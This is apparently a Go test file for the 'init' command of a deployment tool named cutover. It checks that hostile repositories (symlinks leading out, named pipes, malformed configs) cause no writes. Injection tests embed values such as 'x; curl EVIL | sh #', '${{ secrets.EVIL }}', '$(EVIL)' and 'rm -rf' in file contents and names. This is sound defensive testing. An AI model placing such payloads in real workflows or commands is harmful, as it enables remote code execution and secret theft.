package main

import (
	"context"
	"maps"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/cutover-dev/cutover/internal/config"
	"github.com/cutover-dev/cutover/internal/processtest"
)

// written writes a file of a test's repository.
func written(t *testing.T, dir, name, text string) {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// A repository may be made so that init writes elsewhere, loses what is there, or
// waits forever. It does none of it, and says what is wrong.
func TestInitLosesNothingOfAHostileRepository(t *testing.T) {
	outside := t.TempDir()
	written(t, outside, "kept", "kept")
	for name, c := range map[string]struct {
		make func(t *testing.T, dir string)
		says string
	}{
		"cutover.yaml is a folder": {func(t *testing.T, dir string) { written(t, dir, "cutover.yaml/mine", "kept") }, "cutover.yaml"},
		"cutover.yaml leads out":   {link(filepath.Join(outside, "kept"), "cutover.yaml"), "cutover.yaml"},
		"cutover.yaml leads to a file here": {func(t *testing.T, dir string) {
			written(t, dir, "real.yaml", "project: a\nregion: us-east-1\nstages: {production: {url: https://a.dev}}\n")
			link("real.yaml", "cutover.yaml")(t, dir)
		}, "cutover.yaml"},
		"cutover.yaml leads nowhere":   {link("nowhere", "cutover.yaml"), "cutover.yaml"},
		".github leads out":            {link(outside, ".github"), ".github"},
		".github leads elsewhere here": {func(t *testing.T, dir string) { written(t, dir, "mine/kept", "kept"); link("mine", ".github")(t, dir) }, ".github"},
		"a workflow leads out":         {link(filepath.Join(outside, "kept"), ".github/workflows/sst-deploy.yml"), "sst-deploy.yml"},
		"a workflow is a folder":       {func(t *testing.T, dir string) { written(t, dir, ".github/workflows/sst-deploy.yml/mine", "kept") }, "sst-deploy.yml"},
		".github is a file":            {func(t *testing.T, dir string) { written(t, dir, ".github", "kept") }, ".github"},
		"cutover.yaml is a pipe":       {pipe("cutover.yaml"), "cutover.yaml"},
		"sst.config.ts is a pipe":      {pipe("sst.config.ts"), "sst.config.ts"},
		"sst.config.ts leads out":      {link(filepath.Join(outside, "kept"), "sst.config.ts"), "sst.config.ts"},
		"a cutover.yaml that is wrong": {func(t *testing.T, dir string) { written(t, dir, "cutover.yaml", "projet: a\n") }, "projet"},
		"a cutover.yaml that is large": {func(t *testing.T, dir string) { written(t, dir, "cutover.yaml", strings.Repeat("# a\n", 1<<19)) }, "cutover.yaml"},
		"package.json is none":         {func(t *testing.T, dir string) { written(t, dir, "package.json", "[") }, "package.json"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := repository(t, "bare")
			c.make(t, dir)
			before := tree(t, dir)
			code, out, stderr := cutover("init", "--dir", dir, "--yes", "--pin", pin)
			if code != 2 || out != "" || !strings.Contains(stderr, c.says) {
				t.Errorf("exit %d: %s%s", code, out, stderr)
			}
			if after := tree(t, dir); !maps.Equal(before, after) {
				t.Errorf("something was written: %d files, then %d", len(before), len(after))
			}
			if files := tree(t, outside); len(files) != 1 || files["kept"] != "kept" {
				t.Errorf("outside of the repository: %v", files)
			}
		})
	}
}

func link(to, name string) func(*testing.T, string) {
	return func(t *testing.T, dir string) {
		_ = os.Remove(filepath.Join(dir, name))
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
}

func pipe(name string) func(*testing.T, string) {
	return func(t *testing.T, dir string) {
		_ = os.Remove(filepath.Join(dir, name))
		if err := syscall.Mkfifo(filepath.Join(dir, name), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

// Whatever a file says, none of it becomes an expression, a command or YAML.
func TestInitInjectsNothing(t *testing.T) {
	const evil = "EVIL"
	expression, command := "${{ secrets.EVIL }}", "x; curl EVIL | sh #"
	for name, files := range map[string]map[string]string{
		"names": {"sst.config.ts": `export default $config({ app() { return { name: "` + expression + `", home: "aws", providers: { aws: { region: "` + command + `" } } } }, async run() { new X({ domain: "` + expression + `.EVIL.com\nrun: EVIL" }) } })`},
		"a package": {"package.json": `{"name": "` + expression + `", "packageManager": "pnpm@1.` + expression + `", "engines": {"node": "` + command + `"},
			"scripts": {"` + command + `": "EVIL", "lint": "` + command + `", "test": "` + expression + ` --coverage", "build": "EVIL", "test:integration; EVIL": "EVIL"}}`},
		"git's files":       {".git/config": "[remote \"origin\"]\n\turl = git@github.com:$(EVIL)/EVIL;EVIL.git\n", ".git/refs/remotes/origin/HEAD": "ref: refs/remotes/origin/" + "$(EVIL)\n"},
		"a workflow's name": {".github/workflows/" + "EVIL ${{ github.token }}.yml": "on: push\npermissions: {}\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: sst remove EVIL}]}}\n"},
	} {
		t.Run(name, func(t *testing.T) {
			dir := repository(t, "bare")
			for file, text := range files {
				written(t, dir, file, text)
			}
			out := setUp(t, dir, "--with", "gate,deploy,monitoring,traffic,load,cost,decommission")
			if _, steps, _ := strings.Cut(out, "What only you can do"); strings.Contains(steps, evil) && strings.ContainsAny(around(steps, evil), ";(") {
				t.Errorf("a command that one would copy holds %q", around(steps, evil))
			}
			for file, text := range tree(t, dir) {
				// What is tamed to letters and digits names the project, and is no harm.
				if _, given := files[file]; !given && strings.ContainsAny(around(strings.ToUpper(text), evil), ";$|") {
					t.Errorf("%s holds %q", file, around(strings.ToUpper(text), evil))
				}
			}
			linted(t, dir)
		})
	}
	dir := repository(t, "bare")
	odd := "a ${{ x }}; rm -rf"
	if err := os.Rename(filepath.Join(dir, "sst.config.ts"), filepath.Join(mkdir(t, dir, odd), "sst.config.ts")); err != nil {
		t.Fatal(err)
	}
	if code, _, stderr := cutover("init", "--dir", dir, "--yes", "--pin", pin); code != 2 || !strings.Contains(stderr, "cannot stand in a workflow") {
		t.Errorf("a folder with an expression in its name: exit %d: %s", code, stderr)
	}
}

// around is what stands beside the first place of a word, "" without one.
func around(text, word string) string {
	at := strings.Index(text, word)
	if at < 0 {
		return ""
	}
	return text[max(at-20, 0):min(at+20, len(text))]
}

func mkdir(t *testing.T, dir, name string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.MkdirAll(path, 0o755); err != nil {
		t.Fatal(err)
	}
	return path
}

// A file that a person has changed stays; one that nobody has touched follows.
func TestInitUpdatesOnlyWhatNobodyTouched(t *testing.T) {
	dir := repository(t, "v4-npm-http-ecs")
	setUp(t, dir)
	const workflow = ".github/workflows/rollback.yml"
	mine := strings.Replace(tree(t, dir)[workflow], "timeout-minutes: 60", "timeout-minutes: 90", 1)
	written(t, dir, workflow, mine)
	config := strings.Replace(tree(t, dir)["cutover.yaml"], "lines: 80%", "lines: 85%", 1)
	written(t, dir, "cutover.yaml", config)

	newer := strings.Repeat("f", 40)
	code, out, stderr := cutover("init", "--dir", dir, "--yes", "--pin", newer)
	after := tree(t, dir)
	if code != 0 || after[workflow] != mine || after["cutover.yaml"] != config {
		t.Fatalf("exit %d, and a person's file was changed: %s", code, stderr)
	}
	if !strings.Contains(out, "yours, left alone   "+workflow) || !strings.Contains(stderr, "-    timeout-minutes: 90\n") {
		t.Errorf("what init wants of it is not shown:\n%s\n%s", out, stderr)
	}
	for name, text := range after {
		if strings.HasPrefix(name, ".github/") && name != workflow && strings.Contains(text, pin) {
			t.Errorf("%s is still of the older commit", name)
		}
	}
	code, _, stderr = cutover("init", "--dir", dir, "--yes", "--pin", newer, "--force", workflow)
	if text := tree(t, dir)[workflow]; code != 0 || strings.Contains(text, pin) || strings.Contains(text, "timeout-minutes: 90") {
		t.Errorf("exit %d: --force did not take it: %s", code, stderr)
	}
	if code, _, stderr := cutover("init", "--dir", dir, "--yes", "--pin", pin, "--force", "README.md"); code != 2 || !strings.Contains(stderr, workflow) {
		t.Errorf("exit %d: %s", code, stderr)
	}
}

// An unfinished file of a killed run is nobody's, and what is written is whole.
func TestInitGoesOnAfterAKill(t *testing.T) {
	dir := repository(t, "bare")
	written(t, dir, ".cutover.yaml.cutover-init", "half")
	setUp(t, dir)
	for name := range tree(t, dir) {
		if strings.Contains(name, ".cutover-init") {
			t.Errorf("%s is left", name)
		}
	}
	if _, err := config.Load(filepath.Join(dir, "cutover.yaml")); err != nil {
		t.Error(err)
	}
	// Killed between two files: those that are there are whole.
	for name := range tree(t, dir) {
		if strings.HasPrefix(name, ".github/workflows/s") {
			if err := os.Remove(filepath.Join(dir, name)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if out := setUp(t, dir); strings.Count(out, "new   ") != 2 || strings.Count(out, "as it was  ") != 7 {
		t.Error(out)
	}
}

func TestInitSaysWhatIsMissing(t *testing.T) {
	empty := t.TempDir()
	several := repository(t, "bare")
	written(t, several, "a/sst.config.ts", "export default $config({})")
	written(t, several, "b/c/sst.config.ts", "export default $config({})")
	if err := os.Remove(filepath.Join(several, "sst.config.ts")); err != nil {
		t.Fatal(err)
	}
	v2 := repository(t, "v2-npm")
	for name, c := range map[string]struct {
		args []string
		says string
	}{
		"no app":                {[]string{"--dir", empty, "--pin", pin}, "sst.config.ts"},
		"no folder":             {[]string{"--dir", filepath.Join(empty, "none"), "--pin", pin}, "dir: cannot be opened"},
		"several apps":          {[]string{"--dir", several, "--pin", pin}, "a, b/c"},
		"a tag for a pin":       {[]string{"--dir", v2, "--pin", "v1"}, "ls-remote https://github.com/cutover-dev/cutover v1"},
		"a part that is none":   {[]string{"--dir", v2, "--pin", pin, "--with", "deploi"}, "Did you mean deploy?"},
		"deploy of v2":          {[]string{"--dir", v2, "--pin", pin, "--with", "deploy"}, "SST v2"},
		"a region that is none": {[]string{"--dir", v2, "--pin", pin, "--region", "us"}, "us-east-1"},
		"a url with a path":     {[]string{"--dir", v2, "--pin", pin, "--url", "https://a.dev/x"}, "https://api.example.com"},
	} {
		t.Run(name, func(t *testing.T) {
			if code, out, stderr := cutover(append([]string{"init", "--yes"}, c.args...)...); code != 2 || out != "" || !strings.Contains(stderr, c.says) {
				t.Errorf("exit %d: %s%s", code, out, stderr)
			}
		})
	}
}

// The pin is this binary's own commit, or somebody's word; never a guess.
func TestPinIsThisCommit(t *testing.T) {
	if pin, name, err := pinned(t.Context(), ""); err != nil || !fullSHA.MatchString(pin) || name != "" {
		t.Errorf("%q %q %v", pin, name, err)
	}
	commit, version = pin, "v1.2.3"
	t.Cleanup(func() { commit, version = "", "" })
	if got, name, err := pinned(context.Background(), ""); err != nil || got != pin || name != "v1.2.3" {
		t.Errorf("%q %q %v", got, name, err)
	}
	dir := repository(t, "bare")
	if code, _, stderr := cutover("init", "--dir", dir, "--yes"); code != 0 {
		t.Fatal(stderr)
	}
	if text := tree(t, dir)[".github/workflows/monitoring.yml"]; !strings.Contains(text, "monitoring-stack@"+pin+" # v1.2.3\n") {
		t.Error("a release's version does not stand beside its commit")
	}
	// git's own files, where there is no git.
	folder := t.TempDir()
	for name, c := range map[string]struct{ head, ref, packed, want string }{
		"a branch":          {"ref: refs/heads/main\n", pin + "\n", "", pin},
		"a packed branch":   {"ref: refs/heads/main\n", "", "# pack-refs\n" + pin + " refs/heads/main\n", pin},
		"a detached commit": {pin + "\n", "", "", pin},
		"nothing":           {"", "", "", ""},
	} {
		t.Setenv("PATH", folder)
		at := mkdir(t, folder, name)
		written(t, at, ".git/HEAD", c.head)
		written(t, at, ".git/refs/heads/main", c.ref)
		written(t, at, ".git/packed-refs", c.packed)
		if got := head(t.Context(), at); got != c.want {
			t.Errorf("%s: %q", name, got)
		}
	}
}

// A binary that was copied away from its checkout, and built without git, knows no
// commit, and says how to find one.
func TestInitRefusesToGuessThePin(t *testing.T) {
	binary := filepath.Join(t.TempDir(), "cutover")
	build := processtest.Run(t, "go", ".", []string{"HOME=" + os.Getenv("HOME"), "GOFLAGS=-buildvcs=false", "GOCACHE=" + os.Getenv("GOCACHE")}, "build", "-o", binary, ".")
	if build.Code != 0 {
		t.Fatal(build.Stderr)
	}
	dir := repository(t, "bare")
	got := processtest.Run(t, binary, dir, nil, "init", "--yes")
	if got.Code != 2 || !strings.Contains(got.Stderr, "git ls-remote --tags") {
		t.Errorf("exit %d: %s%s", got.Code, got.Stdout, got.Stderr)
	}
	// As from outside: with a pin, in a folder that is no repository.
	got = processtest.Run(t, binary, t.TempDir(), nil, "init", "--dir", dir, "--yes", "--pin", pin)
	if got.Code != 0 {
		t.Errorf("exit %d: %s", got.Code, got.Stderr)
	}
	if check := processtest.Run(t, binary, dir, nil, "config", "check"); check.Code != 0 {
		t.Error(check.Stderr)
	}
}
